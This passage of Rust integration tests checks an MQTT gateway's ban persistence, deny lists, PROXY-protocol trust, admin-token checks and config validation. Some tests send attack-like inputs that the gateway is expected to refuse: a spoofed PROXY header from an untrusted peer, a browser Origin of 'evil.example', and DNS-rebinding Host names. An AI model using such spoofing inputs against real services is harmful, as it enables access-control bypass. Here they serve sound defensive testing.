    let (_, before) = http_get(first.metrics, "/bans").await.unwrap();
    assert!(!file.exists(), "written before the hour and the drain");
    first.terminate();
    assert!(first.exit_status().await.success());
    assert!(
        saved().contains("127.0.8.0/24"),
        "not written after the drain"
    );
    // It lists client ids and usernames: the owner's alone.
    use std::os::unix::fs::PermissionsExt as _;
    let mode = std::fs::metadata(&file).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600, "{mode:o}");

    let often = config("bans_save_every = \"50ms\"\n");
    let mut second = Gateway::start("bans-file-2", &often, &[]).await;
    assert!(second.log().contains("restored=2"), "{}", second.log());
    refused_but(second.mqtt, &["127.0.7.1", "127.0.8.9"], "127.0.9.1").await;
    let (_, after) = http_get(second.metrics, "/bans").await.unwrap();
    let bans = |json: &str| -> Vec<(String, String, std::time::SystemTime)> {
        let list: serde_json::Value = serde_json::from_str(json).unwrap();
        let list = list.as_array().unwrap().iter();
        list.map(|b| {
            let until = humantime::parse_rfc3339(b["until"].as_str().unwrap()).unwrap();
            (b["value"].to_string(), b["reason"].to_string(), until)
        })
        .collect()
    };
    let (before, after) = (bans(&before), bans(&after));
    assert_eq!((before.len(), after.len()), (2, 2), "{after:?}");
    for (b, a) in before.iter().zip(&after) {
        assert_eq!((&b.0, &b.1), (&a.0, &a.1));
        let apart = a.2.duration_since(b.2).unwrap_or_else(|e| e.duration());
        assert!(apart < Duration::from_secs(1), "{b:?} {a:?}");
    }
    // Written while it runs; lifted before its stop, left out.
    post(second.metrics, "/bans?key=client_id&value=gone&for=10m").await;
    let deadline = Instant::now() + WAIT;
    while !saved().contains("gone") {
        assert!(Instant::now() < deadline, "not written while running");
        sleep(Duration::from_millis(20)).await;
    }
    let lift = "/bans?key=client_id&value=gone";
    assert_eq!(
        http_request(second.metrics, "DELETE", lift)
            .await
            .unwrap()
            .0,
        200
    );
    second.terminate();
    assert!(second.exit_status().await.success());
    assert!(!saved().contains("gone"), "{}", saved());
    assert!(saved().contains("127.0.7.1/32"), "{}", saved());

    // Three bans for a table of two: the two that end last.
    let record = |name: &str, until: &str| {
        format!(r#"{{"key":"username","value":"{name}","until":"{until}","reason":"manual"}}"#)
    };
    // In no order (written by hand, say): the two that end last are kept.
    let three = [
        record("last", "2099-01-01T00:00:00Z"),
        record("soonest", "2090-01-01T00:00:00Z"),
        record("later", "2095-01-01T00:00:00Z"),
    ];
    std::fs::write(&file, format!("[{}]", three.join(","))).unwrap();
    let third = Gateway::start("bans-file-3", &config("max_bans = 2\n"), &[]).await;
    assert!(third.log().contains("restored=2"), "{}", third.log());
    let (_, listed) = http_get(third.metrics, "/bans").await.unwrap();
    let kept = ["later", "last"].map(|n| listed.contains(&format!("\"value\":\"{n}\"")));
    assert!(
        !listed.contains("soonest") && kept == [true, true],
        "{listed}"
    );
    drop(third);

    std::fs::write(&file, "{not a list").unwrap();
    let (status, stderr) = run_to_exit("bans-file-bad", &config(""));
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("config error: security.bans_file") && stderr.contains("bans.json"),
        "{stderr}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `/bans?limit=N` lists the `N` bans that end last (1000 without `limit`, at most
/// 10,000 whatever it asks), the soonest-ending first, and says in `X-Total-Count` how
/// many are in force: 10,001 bans restored from `security.bans_file`, in no order.
#[tokio::test]
async fn bans_lists_at_most_its_limit_and_the_total_in_a_header() {
    let dir = scratch("bans-limit-file");
    let file = dir.join("bans.json");
    let start = std::time::SystemTime::now() + Duration::from_secs(86_400);
    // Each `u<i>` ends `i` seconds after the first; written from the last.
    let records: Vec<String> = (0..10_001u64)
        .rev()
        .map(|i| {
            let until = humantime::format_rfc3339(start + Duration::from_secs(i));
            format!(r#"{{"key":"username","value":"u{i:05}","until":"{until}","reason":"manual"}}"#)
        })
        .collect();
    std::fs::write(&file, format!("[{}]", records.join(","))).unwrap();
    let config = format!("[security]\nbans_file = {:?}\n", file.display().to_string());
    let gw = Gateway::start("bans-limit", &config, &[]).await;
    gw.wait_log("restored=10001").await;
    let metrics = gw.metrics;
    let list = |path: &'static str| async move {
        let (status, head, body) = http_exchange(metrics, "GET", path, "").await.unwrap();
        assert_eq!(status, 200, "{path}: {head}");
        let total = head.lines().find_map(|l| {
            let (name, value) = l.split_once(':')?;
            name.eq_ignore_ascii_case("x-total-count")
                .then(|| value.trim().to_string())
        });
        let bans: serde_json::Value = serde_json::from_str(&body).unwrap();
        let values: Vec<String> = bans
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["value"].as_str().unwrap().to_string())
            .collect();
        (total.as_deref() == Some("10001"), values)
    };
    let ends = |v: &[String]| (v.len(), v[0].clone(), v[v.len() - 1].clone());

    let (total, default) = list("/bans").await;
    assert!(total, "no X-Total-Count: 10001");
    assert_eq!(ends(&default), (1000, "u09001".into(), "u10000".into()));
    let (total, two) = list("/bans?limit=2").await;
    assert!(total);
    assert_eq!(two, ["u09999", "u10000"]);
    let (total, most) = list("/bans?limit=50000").await;
    assert!(total);
    assert_eq!(ends(&most), (10_000, "u00001".into(), "u10000".into()));
    let (total, none) = list("/bans?limit=0").await;
    assert!(total && none.is_empty(), "{none:?}");
    assert_eq!(http_get(gw.metrics, "/bans?limit=x").await.unwrap().0, 400);
    drop(gw);
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `security.deny` and `security.deny_file`: their networks and addresses are refused
/// over real sockets before anything is read, counted as `denied`, and are no bans;
/// the address next to a denied one is served. A bad line stops the start, named.
#[tokio::test]
async fn denied_networks_from_the_config_and_a_file_are_refused() {
    let dir = scratch("deny-file");
    let file = dir.join("drop.txt");
    let list = "; a blocklist\n127.0.11.5 # one scanner\n\n127.0.12.0/24 ; SBL1\n";
    std::fs::write(&file, list).unwrap();
    let path = file.display().to_string();
    let config = format!("[security]\ndeny = [\"127.0.10.0/24\"]\ndeny_file = {path:?}\n");
    let gw = Gateway::start("deny", &config, &[]).await;
    let denied = ["127.0.10.1", "127.0.11.5", "127.0.12.9"];
    refused_but(gw.mqtt, &denied, "127.0.11.6").await;
    gw.wait_metric(
        "aegis_rejections_total{layer=\"security\",reason=\"denied\"}",
        3.0,
    )
    .await;
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
    drop(gw);

    std::fs::write(&file, "127.0.11.5\n127.0.12.0/33\n").unwrap();
    let (status, stderr) = run_to_exit("deny-file-bad", &config);
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("config error: security.deny_file") && stderr.contains("line 2"),
        "{stderr}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A trusted network written in IPv4-mapped form (`::ffff:127.0.0.5/128`, as a
/// dual-stack socket shows its peers) is taken as its IPv4 network by the accept loop's
/// check as by the PROXY layer: the balancer is a trusted sender, not a client checked
/// against `security.deny` at accept (its clients are, after the header). Before, the
/// accept loop matched the peer, folded to IPv4, against the network as written, and
/// refused the balancer whose address a deny entry also held.
#[tokio::test]
async fn a_trusted_network_in_ipv4_mapped_form_is_trusted_at_accept_too() {
    let config = r#"
        [proxy_protocol]
        enabled = true
        trusted = ["::ffff:127.0.0.5/128"]
        [security]
        deny = ["127.0.0.5/32"]
    "#;
    let gw = Gateway::start("pp-mapped", config, &[]).await;
    let mut s = connect_from("127.0.0.5", gw.mqtt).await;
    s.write_all(&[proxy_v1("203.0.113.9", gw.mqtt), connect_311("mapped")].concat())
        .await
        .unwrap();
    let connack = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(connack, (0x20, vec![0x00, 0x00]));
    s.write_all(&[0xE0, 0x00]).await.unwrap();
    gw.wait_metric(
        "aegis_proxy_protocol_connections_total{outcome=\"proxied_v1\"}",
        1.0,
    )
    .await;
}

/// With `proxy_protocol` on, a peer outside `proxy_protocol.trusted` is its own client
/// from its first moment: a banned or denied address is refused at accept (reset), as
/// without the PROXY protocol, and the per-IP cap holds its silent connections at once.
/// Before, the accept loop checked no address with `proxy_protocol` on, and the PROXY
/// layer held each silent untrusted connection, unread and outside every per-client
/// limit, for the whole `proxy_protocol.timeout` (here 10 s): one banned address could
/// fill `max_connections`. A PROXY line from such a peer is no header but bytes that
/// are not MQTT, closed by the sniffer and counted as `proxy`; a trusted proxy's header
/// still names the client, refused by the security layer when that client is banned.
#[tokio::test]
async fn with_proxy_protocol_an_untrusted_peer_is_its_own_client_from_accept() {
    let config = r#"
        [proxy_protocol]
        enabled = true
        trusted = ["127.0.0.5/32"]
        timeout = "10s"
        [slowloris]
        first_byte = "30s"
        [sniff]
        timeout = "30s"
        [limits.concurrent_per_ip]
        max = 2
        [security]
        admin = true
        deny = ["127.0.10.0/24"]
    "#;
    let gw = Gateway::start("pp-untrusted", config, &[]).await;
    let ban = "/bans?key=addr&value=127.0.0.9&for=10m";
    assert_eq!(http_request(gw.metrics, "POST", ban).await.unwrap().0, 200);
    for from in ["127.0.0.9", "127.0.10.1"] {
        assert!(
            reset_at_accept(from, gw.mqtt).await,
            "{from} was not refused at accept"
        );
    }
    for reason in ["banned", "denied"] {
        gw.wait_metric(
            &format!("aegis_rejections_total{{layer=\"security\",reason=\"{reason}\"}}"),
            1.0,
        )
        .await;
    }

    // Two silent connections from one untrusted address are all it may hold: of three,
    // one is closed at once, not after the PROXY layer's 10 s. Which one is the
    // runtimes' race: under `per-core` the second may wait in the other runtime's queue
    // while the third, served by the accepting runtime, takes the last slot first.
    let mut silent = Vec::new();
    for _ in 0..2 {
        silent.push(connect_from("127.0.0.11", gw.mqtt).await);
    }
    gw.wait_metric("aegis_active_connections", 2.0).await;
    silent.push(connect_from("127.0.0.11", gw.mqtt).await);
    let mut reads = tokio::task::JoinSet::new();
    for mut conn in silent {
        reads.spawn(async move {
            let mut buf = [0u8; 1];
            let end = timeout(Duration::from_secs(5), conn.read(&mut buf)).await;
            (matches!(end, Ok(Ok(0) | Err(_))), conn)
        });
    }
    let mut closed = 0;
    let mut held = Vec::new();
    while let Some(read) = reads.join_next().await {
        let (was_closed, conn) = read.unwrap();
        closed += usize::from(was_closed);
        held.push(conn);
    }
    assert_eq!(
        closed, 1,
        "of three silent connections from one address with a cap of 2, one is closed at once"
    );
    gw.wait_metric(
        "aegis_rejections_total{layer=\"rate_limit\",reason=\"concurrency\"}",
        1.0,
    )
    .await;

    // An untrusted peer's PROXY line is not believed: the sniffer closes it as `proxy`.
    let mut s = connect_from("127.0.0.12", gw.mqtt).await;
    s.write_all(&[proxy_v1("203.0.113.9", gw.mqtt), connect_311("spoofer")].concat())
        .await
        .unwrap();
    assert!(closed_silently(&mut s).await, "the PROXY line was answered");
    gw.wait_metric(
        "aegis_rejections_total{layer=\"sniff\",reason=\"proxy\"}",
        1.0,
    )
    .await;
    // Its MQTT, and a trusted proxy's header, are served; a trusted proxy's header that
    // names the banned client is refused after the header.
    let mut plain = mqtt_session("127.0.0.12", gw.mqtt, "plain").await.unwrap();
    plain.write_all(&[0xE0, 0x00]).await.unwrap();
    for (client, served) in [("203.0.113.9", true), ("127.0.0.9", false)] {
        let mut s = connect_from("127.0.0.5", gw.mqtt).await;
        s.write_all(&[proxy_v1(client, gw.mqtt), connect_311("proxied")].concat())
            .await
            .unwrap();
        if served {
            let connack = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
            assert_eq!(connack, (0x20, vec![0x00, 0x00]), "{client}");
            s.write_all(&[0xE0, 0x00]).await.unwrap();
        } else {
            assert!(closed_silently(&mut s).await, "{client} was served");
        }
    }
    gw.wait_metric(
        "aegis_proxy_protocol_connections_total{outcome=\"proxied_v1\"}",
        2.0,
    )
    .await;
}

/// `security.admin_token`: `/bans` and `/events` need it as a bearer token (401 without
/// it, with another or without the scheme); a browser's request (an `Origin` header) is
/// refused even with it. `--check` prints it masked; a short token, and `admin = true`
/// on a metrics address beyond loopback without a token (from the file or `--metrics`),
/// are config errors.
#[tokio::test]
async fn the_admin_paths_need_the_admin_token_and_refuse_browsers() {
    const TOKEN: &str = "s3cret-Token-0123456";
    let config = format!("[security]\nadmin = true\nadmin_token = \"{TOKEN}\"\n");
    let gw = Gateway::start("admin-token", &config, &[]).await;
    let status = |method: &'static str, path: &'static str, headers: String| async move {
        let (status, body) = http_request_with(gw.metrics, method, path, &headers)
            .await
            .unwrap();
        (status, body)
    };
    let bearer = format!("Authorization: Bearer {TOKEN}\r\n");
    let ban = "/bans?key=addr&value=192.0.2.1&for=10m";
    let wrong = [
        String::new(),
        "Authorization: Bearer s3cret-Token-0123457\r\n".to_owned(),
        "Authorization: Bearer s3cret\r\n".to_owned(),
        format!("Authorization: {TOKEN}\r\n"),
        format!("Authorization: Bearer{TOKEN}\r\n"),
    ];
    for headers in wrong.clone() {
        assert_eq!(
            status("POST", ban, headers.clone()).await.0,
            401,
            "{headers:?}"
        );
        assert_eq!(
            status("GET", "/events", headers.clone()).await.0,
            401,
            "{headers:?}"
        );
    }
    assert_eq!(
        status("GET", "/bans", bearer.clone()).await,
        (200, "[]".into())
    );
    assert_eq!(status("POST", ban, bearer.clone()).await.0, 200);
    let lower = format!("authorization: bearer   {TOKEN}\r\n");
    assert_eq!(status("POST", ban, lower).await.0, 200);
    let browser = format!("{bearer}Origin: http://evil.example\r\n");
    let lift = "/bans?key=addr&value=192.0.2.1";
    assert_eq!(status("DELETE", lift, browser).await.0, 403);
    assert_eq!(status("DELETE", lift, wrong[0].clone()).await.0, 401);
    assert_eq!(status("DELETE", lift, bearer.clone()).await.0, 200);
    let (code, body) = status("GET", "/events", bearer).await;
    assert!(
        code == 200 && body.contains("\"kind\":\"ban\""),
        "{code} {body}"
    );
    drop(gw);

    let dir = scratch("admin-token-check");
    let check = |config: &str, args: &[&str]| {
        let file = dir.join("gateway.toml");
        std::fs::write(&file, config).unwrap();
        let config = [std::ffi::OsStr::new("--config"), file.as_os_str()];
        let out = gateway_check(config.into_iter().chain(args.iter().map(AsRef::as_ref)));
        let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
        text.push_str(&String::from_utf8_lossy(&out.stderr));
        (out.status.code(), text)
    };
    let admin = "[security]\nadmin = true\n";
    for (config, args) in [
        (
            format!("[metrics]\nlisten = \"0.0.0.0:9090\"\n{admin}"),
            &[][..],
        ),
        (admin.to_owned(), &["--metrics", "[::]:9090"][..]),
    ] {
        let (code, out) = check(&config, args);
        assert_eq!(code, Some(2), "{config} {args:?}: {out}");
        assert!(out.contains("config error: security.admin"), "{out}");
    }
    let token = format!("admin_token = \"{TOKEN}\"\n");
    let (code, out) = check(&format!("{admin}{token}"), &["--metrics", "0.0.0.0:9090"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(
        out.contains("admin_token = \"(set)\"") && !out.contains("s3cret"),
        "{out}"
    );
    let (code, out) = check(&format!("{admin}admin_token = \"short\"\n"), &[]);
    assert_eq!(code, Some(2), "{out}");
    assert!(out.contains("config error: security.admin_token"), "{out}");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Without a token, `/bans` and `/events` answer only requests addressed to an IP or
/// `localhost`: a page that rebinds its own name to this address cannot read them.
#[tokio::test]
async fn without_a_token_the_admin_paths_answer_only_an_ip_or_localhost() {
    let gw = Gateway::start("admin-host", "[security]\nadmin = true\n", &[]).await;
    let port = gw.metrics.port();
    for (host, expected) in [
        (format!("127.0.0.1:{port}"), 200),
        (format!("localhost:{port}"), 200),
        (format!("[::1]:{port}"), 200),
        ("127.0.0.1".to_owned(), 200),
        (format!("rebound.example:{port}"), 403),
        ("rebound.example".to_owned(), 403),
    ] {
        let raw = format!("GET /bans HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        let mut s = TcpStream::connect(gw.metrics).await.unwrap();
        s.write_all(raw.as_bytes()).await.unwrap();
        let mut got = String::new();
        s.read_to_string(&mut got).await.unwrap();
        assert!(
            got.starts_with(&format!("HTTP/1.1 {expected} ")),
            "{host}: {got}"
        );
    }
    // /metrics is for any scraper, whatever its Host.
    let raw = "GET /metrics HTTP/1.1\r\nHost: prometheus.example\r\nConnection: close\r\n\r\n";
    let mut s = TcpStream::connect(gw.metrics).await.unwrap();
    s.write_all(raw.as_bytes()).await.unwrap();
    let mut got = String::new();
    s.read_to_string(&mut got).await.unwrap();
    assert!(got.starts_with("HTTP/1.1 200 "), "{got}");
}

/// Without `security.admin_token`, `/events` and `/bans` (client addresses, client ids,
/// usernames) are served only by an endpoint configured on a loopback address: one on
/// `0.0.0.0` (reached here at 127.0.0.1) answers them `403`, `/metrics` and `/healthz`
/// still `200`; with a token, the bearer gets `200`.
#[tokio::test]
async fn beyond_loopback_events_and_bans_need_the_admin_token() {
    const TOKEN: &str = "s3cret-Token-0123456";
    let anywhere = Launch {
        metrics_ip: "0.0.0.0",
        ..Launch::default()
    };
    let gw = Gateway::start_with("admin-beyond-loopback", "", &[], anywhere.clone()).await;
    for path in ["/events", "/bans"] {
        let (status, body) = http_get(gw.metrics, path).await.unwrap();
        assert_eq!(status, 403, "{path}: {body}");
        assert!(body.contains("security.admin_token"), "{path}: {body}");
    }
    for path in ["/metrics", "/healthz"] {
        assert_eq!(http_get(gw.metrics, path).await.unwrap().0, 200, "{path}");
    }
    drop(gw);

    let config = format!("[security]\nadmin_token = \"{TOKEN}\"\n");
    let gw = Gateway::start_with("admin-beyond-loopback-token", &config, &[], anywhere).await;
    let bearer = format!("Authorization: Bearer {TOKEN}\r\n");
    for path in ["/events", "/bans"] {
        let (status, body) = http_request_with(gw.metrics, "GET", path, &bearer)
            .await
            .unwrap();
        assert_eq!((status, body.as_str()), (200, "[]"), "{path}");
    }
}

/// The embedded broker (no authentication, memory without bound) is refused when the
/// gateway listens beyond loopback: `--check` exits 2 naming `server.upstream` and
/// saying to use a real broker. With a real broker, or on loopback, it is valid.
#[test]
fn the_embedded_broker_is_refused_beyond_loopback() {
    let check = |args: &[&str]| {
        let out = gateway_check(args);
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    for listen in ["0.0.0.0:1883", "[::]:1883", "192.0.2.1:1883"] {
        let (code, err) = check(&["--listen", listen]);
        assert_eq!(code, Some(2), "{listen}: {err}");
        assert!(
            err.contains("config error: server.upstream") && err.contains("real broker"),
            "{listen}: {err}"
        );
    }
    let real = ["--listen", "0.0.0.0:1883", "--upstream", "127.0.0.1:1884"];
    assert_eq!(check(&real).0, Some(0));
    assert_eq!(check(&["--listen", "[::1]:1883"]).0, Some(0));
}

/// A `server.upstream` that is the gateway's own listener is refused: the gateway would
/// proxy every client to itself, its per-address limit would then refuse 127.0.0.1, the
/// detector ban 127.0.0.1/32, and `/readyz` (which reaches the listener) say ready. The
/// same port and address, or a wildcard `listen` and a loopback or wildcard upstream (a
/// wildcard upstream reaches loopback), is the listener; another port or another
/// address is not.
#[test]
fn an_upstream_that_is_the_gateways_own_listener_is_refused() {
    let check = |args: &[&str]| {
        let out = gateway_check(args);
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    for args in [
        &["--upstream", "127.0.0.1:1883"][..],
        &["--listen", "0.0.0.0:1883", "--upstream", "127.0.0.1:1883"],
        &["--listen", "0.0.0.0:1883", "--upstream", "127.0.0.2:1883"],
        &["--listen", "0.0.0.0:1883", "--upstream", "0.0.0.0:1883"],
        &["--listen", "127.0.0.1:1883", "--upstream", "0.0.0.0:1883"],
        &["--listen", "[::1]:1883", "--upstream", "[::1]:1883"],
        &["--listen", "[::]:1883", "--upstream", "[::1]:1883"],
        &["--listen", "[::]:1883", "--upstream", "127.0.0.1:1883"],
        &[
            "--listen",
            "[::]:1883",
            "--upstream",
            "[::ffff:127.0.0.1]:1883",
        ],
        &["--listen", "192.0.2.1:1883", "--upstream", "192.0.2.1:1883"],
    ] {
        let (code, err) = check(args);
        assert_eq!(code, Some(2), "{args:?}: {err}");
        assert!(
            err.contains("config error: server.upstream") && err.contains("server.listen"),
            "{args:?}: {err}"
        );
    }
    for args in [
        &["--upstream", "127.0.0.1:1884"][..],
        &["--listen", "0.0.0.0:1883", "--upstream", "127.0.0.1:1884"],
        &["--listen", "127.0.0.1:1883", "--upstream", "127.0.0.2:1883"],
        &["--listen", "192.0.2.1:1883", "--upstream", "192.0.2.2:1883"],
        &["--listen", "0.0.0.0:1883", "--upstream", "[::1]:1883"],
        &["--listen", "0.0.0.0:1883", "--upstream", "192.0.2.1:1883"],
    ] {
        let (code, err) = check(args);
        assert_eq!(code, Some(0), "{args:?}: {err}");
    }
}

/// `[limits.bytes_per_client] burst` below `mqtt.max_packet_size` is refused: a packet
/// larger than the burst is over the limit for good (QoS 0 dropped without a word, QoS
/// 1/2 never acknowledged, resent after each reconnect and dropped again). A burst of
/// the largest packet is valid, and so is any burst while the tier is off.
#[test]
fn a_bytes_per_client_burst_below_the_largest_packet_is_refused() {
    for (name, config) in [
        (
            "bytes-burst-below",
            "[mqtt]\nmax_packet_size = 8192\n[limits.bytes_per_client]\nrate = \"8192/s\"\nburst = 8191\n",
        ),
        (
            "bytes-burst-below-default",
            "[limits.bytes_per_client]\nburst = 262143\n",
        ),
    ] {
        let (code, out) = check_config(name, config);
        assert_eq!(code, Some(2), "{config}: {out}");
        assert!(
            out.contains("config error: limits.bytes_per_client.burst")
                && out.contains("mqtt.max_packet_size"),
            "{config}: {out}"
        );
    }
    for (name, config) in [
        (
            "bytes-burst-equal",
            "[mqtt]\nmax_packet_size = 8192\n[limits.bytes_per_client]\nrate = \"8192/s\"\nburst = 8192\n",
        ),
        ("bytes-burst-default", "[limits.bytes_per_client]\n"),
        (
            "bytes-burst-tier-off",
            "[limits.bytes_per_client]\nenabled = false\nburst = 100\n",
        ),
        (
            "bytes-burst-limits-off",
            "[limits]\nenabled = false\n[limits.bytes_per_client]\nburst = 100\n",
        ),
    ] {
        let (code, out) = check_config(name, config);
        assert_eq!(code, Some(0), "{config}: {out}");
    }
}
#[test]
fn config_errors_exit_2_and_name_the_key() {
    let cases = [
        (
            "wrong type",
            "[server]\nmax_connections = \"many\"\n",
            "server.max_connections",
        ),
        (
            "out of range",
            "[limits.per_ip]\nrate = \"5/s\"\nburst = 0\n",
            "limits.per_ip.burst",
        ),
        (
            "unknown key",
            "[slowloris]\nfirst_bite = \"5s\"\n",
            "slowloris.first_bite",
        ),
        (
            "bad duration",
            "[mqtt]\nconnect_timeout = \"soon\"\n",
            "mqtt.connect_timeout",
        ),
        (
            "no packet deadline at all",
            "[mqtt]\npacket_timeout = \"0s\"\n",
            "mqtt.packet_timeout",
        ),
        (
            "a packet deadline longer than an hour",
            "[mqtt]\npacket_timeout = \"2h\"\n",
            "mqtt.packet_timeout",
        ),
        (
            "bans written less often than daily",
            "[security]\nbans_save_every = \"2d\"\n",
            "security.bans_save_every",
        ),
        (
            "no drain at all",
            "[server]\ndrain_timeout = \"0s\"\n",
            "server.drain_timeout",
        ),
        (
            "a drain longer than an hour",
            "[server]\ndrain_timeout = \"2h\"\n",
            "server.drain_timeout",
        ),
        (
            "a failure-rate window of a hundred billion calls, allocated at start",
            "[circuit_breaker.failure_rate]\nenabled = true\nwindow = 100000000000\n",
            "circuit_breaker.failure_rate.window",
        ),
        (
            "a circuit open for longer than tokio's clock",
            "[circuit_breaker]\nopen_for = \"300000000000y\"\n",
            "circuit_breaker.open_for",
        ),
        (
            "an eviction interval past tokio's clock",
            "[limits]\nevict_every = \"300000000000y\"\n",
            "limits.evict_every",
        ),
        (
            "an adaptive threshold the CONNACK timeout cannot cross",
            "[mqtt]\nconnack_timeout = \"1s\"\n[adaptive]\nenabled = true\nthreshold = \"1s\"\n",
            "adaptive.threshold",
        ),
        (
            "an adaptive threshold the upstream connect timeout cannot cross (no MQTT layer)",
            "[server]\nupstream_connect_timeout = \"2s\"\n[mqtt]\nenabled = false\n\
             [slowloris]\nhandshake = \"0s\"\n[adaptive]\nenabled = true\nthreshold = \"5s\"\n",
            "adaptive.threshold",
        ),
        (
            "an adaptive threshold past what the latency histogram tells from a stall",
            "[mqtt]\nconnack_timeout = \"5m\"\n[adaptive]\nenabled = true\nthreshold = \"2m\"\n",
            "adaptive.threshold",
        ),
        (
            "an adaptive interval that would spin the controller",
            "[adaptive]\nenabled = true\ninterval = \"1ns\"\n",
            "adaptive.interval",
        ),
        (
            "an adaptive interval past tokio's clock",
            "[adaptive]\nenabled = true\ninterval = \"300000000000y\"\n",
            "adaptive.interval",
        ),
        (
            "a duration that overflowed humantime's carry (it panicked)",
            "[server]\ndrain_timeout = \"18446744073709551615s 1000000000ns\"\n",
            "server.drain_timeout",
        ),
        (
            "a rate whose interval overflowed humantime's carry",
            "[limits.per_ip]\nrate = \"1/18446744073709551615s1000000000ns\"\nburst = 1\n",
            "limits.per_ip.rate",
        ),
        (
            "an idle clock after a handshake that nothing ends (the MQTT layer off)",
            "[mqtt]\nenabled = false\n[slowloris]\nhandshake = \"0s\"\nidle_after_handshake = \"60s\"\n",
            "slowloris.idle_after_handshake",
        ),
        (
            "a minimum rate with no grace (its deadline is the connection's start)",
            "[slowloris]\nmin_rate_bytes_per_sec = 100\nmin_rate_grace = \"0s\"\n",
            "slowloris.min_rate_grace",
        ),
        (
            "an embedded broker payload limit of 0 (the MQTT layer off)",
            "[mqtt]\nenabled = false\nmax_packet_size = 0\n[slowloris]\nhandshake = \"0s\"\n",
            "mqtt.max_packet_size",
        ),
        (
            "a readiness probe longer than the endpoint keeps a connection",
            "[metrics]\nreadiness_timeout = \"40s\"\n",
            "metrics.readiness_timeout",
        ),
        (
            "a rate slower than governor's clock",
            "[limits.per_ip]\nrate = \"1/600y\"\nburst = 1\n",
            "limits.per_ip.rate",
        ),
        (
            "a burst that takes a millennium to refill",
            "[limits.publish_per_client]\nrate = \"1/100y\"\nburst = 10\n",
            "limits.publish_per_client.rate",
        ),
        (
            "a burst that takes two centuries to refill (past the limiter's 146 years)",
            "[limits.packets_per_client]\nrate = \"1/100y\"\nburst = 2\n",
            "limits.packets_per_client.rate",
        ),
        (
            "a deny list with security off",
            "[security]\nenabled = false\ndeny = [\"192.0.2.0/24\"]\n",
            "security.deny",
        ),
        (
            "an exempt network without its prefix",
            "[security]\nexempt = [\"10.0.0.1\"]\n",
            "security.exempt[0]",
        ),
        (
            "a prefix the security detector keys by, with the limits off",
            "[limits]\nenabled = false\nipv4_prefix = 33\n",
            "limits.ipv4_prefix",
        ),
        (
            "an IPv4 prefix that bans everyone as one client",
            "[limits]\nipv4_prefix = 0\n",
            "limits.ipv4_prefix",
        ),
        (
            "an IPv6 prefix wider than a manual ban may be",
            "[limits]\nipv6_prefix = 31\n",
            "limits.ipv6_prefix",
        ),
        (
            "bad network",
            "[proxy_protocol]\nenabled = true\ntrusted = [\"10.0.0.0/8\", \"nope\"]\n",
            "proxy_protocol.trusted[1]",
        ),
        (
            "https auth",
            "[auth]\nkind = \"http\"\nurl = \"https://auth.example/mqtt\"\n",
            "auth.url",
        ),
        (
            "no auth checks per address",
            "[auth]\nkind = \"none\"\nmax_checks_per_addr = 0\n",
            "auth.max_checks_per_addr",
        ),
        (
            "too many auth checks per address",
            "[auth]\nkind = \"none\"\nmax_checks_per_addr = 1001\n",
            "auth.max_checks_per_addr",
        ),
        (
            "missing password file",
            "[auth]\nkind = \"file\"\nfile = \"/nonexistent/aegis-users\"\n",
            "auth.file",
        ),
        (
            "bad inspection pattern",
            "[[inspect.rules]]\nname = \"ok\"\npattern = \"x\"\n[[inspect.rules]]\nname = \"bad\"\npattern = \"(unclosed\"\n",
            "inspect.rules[1]",
        ),
        (
            "bad inspection topic filter",
            "[[inspect.topics]]\nallow = [\"ok/+\"]\n[[inspect.topics]]\ndeny = [\"a/#/b\"]\n",
            "inspect.topics[1]",
        ),
        (
            "entropy out of range",
            "[inspect]\nentropy_threshold = 9.0\n",
            "inspect.entropy_threshold",
        ),
        (
            "unknown ban key",
            "[security]\nban_by = [\"ip\"]\n",
            "security.ban_by",
        ),
    ];
    for (what, config, key) in cases {
        let (status, stderr) = run_to_exit(&what.replace(' ', "-"), config);
        assert_eq!(status.code(), Some(2), "{what}: {stderr}");
        assert!(
            stderr.contains(&format!("config error: {key}")),
            "{what}: stderr does not name {key}: {stderr}"
        );
        // And why: the users file's read error said only that it could not be read.
        if what == "missing password file" {
            assert!(
                stderr.contains("No such file or directory"),
                "{what}: stderr does not say why: {stderr}"
            );
        }
    }
}

/// A value out of its own range is refused whatever its section's `enabled` says, so
/// that `--check` catches it before the day the section is switched on (these files
/// all passed `--check`, and failed once their section was on). The checks that relate
/// a section to another one still apply only while both are on.
#[test]
fn out_of_range_values_are_refused_in_sections_that_are_off() {
    let refused = [
        (
            "[proxy_protocol]\nmax_header_len = 5\n",
            "proxy_protocol.max_header_len",
        ),
        (
            "[proxy_protocol]\nenabled = false\ntimeout = \"0s\"\n",
            "proxy_protocol.timeout",
        ),
        (
            "[limits]\nenabled = false\nmax_keys = 0\n",
            "limits.max_keys",
        ),
        // It once reached the MQTT policy's builder, which panicked at start-up.
        (
            "[limits]\nenabled = false\nevict_every = \"0s\"\n",
            "limits.evict_every",
        ),
        (
            "[limits.per_ip]\nenabled = false\nburst = 0\n",
            "limits.per_ip.burst",
        ),
        (
            "[limits]\nenabled = false\n[limits.global]\nrate = \"fast\"\n",
            "limits.global.rate",
        ),
        (
            "[limits.concurrent_per_ip]\nenabled = false\nmax = 0\n",
            "limits.concurrent_per_ip.max",
        ),
        (
            "[slowloris]\nenabled = false\nmin_rate_bytes_per_sec = 100\nmin_rate_grace = \"0s\"\n",
            "slowloris.min_rate_grace",
        ),
        (
            "[sniff]\nenabled = false\nmax_prefix = 1\n",
            "sniff.max_prefix",
        ),
        (
            "[sniff]\nenabled = false\ntimeout = \"0s\"\n",
            "sniff.timeout",
        ),
        (
